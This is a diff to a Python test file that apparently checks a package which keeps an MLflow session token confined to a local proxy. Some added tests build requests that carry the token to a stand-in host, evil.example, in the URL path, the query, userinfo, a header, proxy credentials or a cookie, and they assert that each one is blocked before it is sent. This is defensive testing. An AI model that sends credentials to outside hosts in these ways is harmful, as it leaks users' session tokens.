@@ -631,10 +631,46 @@ class OtherRequests(OverTheWire):
                 with self.subTest(name=name, value=value, header=header), mock.patch.dict(os.environ, {name: value}):
                     for url in ("https://other.example/x", "https://127.0.0.1.other.example/x"):
                         self.assertNotIn("Authorization", self.sent_elsewhere(url, headers={"Authorization": header}).headers)
-        # MLflow alone, without this package, signs in to the local proxy with it.
-        with mock.patch.dict(os.environ, {names.SESSION: ""}):
-            sent = self.sent_elsewhere(self.proxy + "/x", headers={"Authorization": "Bearer " + token})
-        self.assertEqual(sent.headers["Authorization"], "Bearer " + token)
+
+    def test_show_it_to_the_local_proxy_alone_once_a_variable_is_gone_and_past_http_proxies(self):
+        """MLflow alone, without this package, signs in to the local proxy with it."""
+        token = "mlflow-vscode-" + "a" * 43 + ".of-a-server"
+        dead = "http://127.0.0.1:9"
+        basic = "Basic " + base64.b64encode(("a:" + token).encode()).decode()
+        for header in ("Bearer " + token, basic, b"Bearer " + token.encode()):
+            for is_ours in (True, False):
+                with self.subTest(header=header, is_ours=is_ours), mock.patch.dict(
+                    os.environ, {names.SESSION: "", "HTTP_PROXY": dead, "ALL_PROXY": dead}
+                ):
+                    proof.forget_proofs()
+                    self.seen.clear()
+                    self.asked.clear()
+                    type(self).listener_session = token.partition(".")[0] if is_ours else "canary-other"
+                    os.environ["NO_PROXY"] = "" if is_ours else "*"
+                    url = self.proxy.replace("127.0.0.1", "localhost") + "/x"
+                    requests.get(url, headers={"Authorization": header}, timeout=10).raise_for_status()
+                    shown = header if isinstance(header, str) else header.decode()
+                    self.assertEqual([got for _, _, got in self.seen], [shown if is_ours else None])
+                    self.assertEqual(self.asked, [None])
+
+    def test_never_have_it_where_no_sign_in_is(self):
+        """A .env file is expanded with the variables of the window."""
+        token = "mlflow-vscode-" + "a" * 43 + ".of-a-server"
+        for session in (token, ""):
+            for url, options in (
+                ("https://evil.example/" + token + "/api/x", {}),
+                ("https://evil.example/x?t=" + token, {}),
+                ("https://user:" + token + "@evil.example/x", {}),
+                ("https://evil.example/x", {"headers": {"X-Api-Key": token}}),
+                ("https://evil.example/x", {"headers": {"X-Api-Key": token.encode()}}),
+                ("https://evil.example/x", {"proxies": {"https": "http://user:" + token + "@evil.example:3128"}}),
+                ("https://evil.example/x", {"cookies": {"t": token}}),
+            ):
+                with self.subTest(url=url, options=options), mock.patch.dict(os.environ, {names.SESSION: session}):
+                    with mock.patch("requests.adapters.HTTPAdapter.send") as send:
+                        with self.assertRaisesRegex(proof.LocalProxyError, "a request for evil.example has the session token"):
+                            requests.get(url, **options)
+                        send.assert_not_called()
 
     def test_are_the_users_once_the_variables_are_gone(self):
         with mock.patch.dict(os.environ):
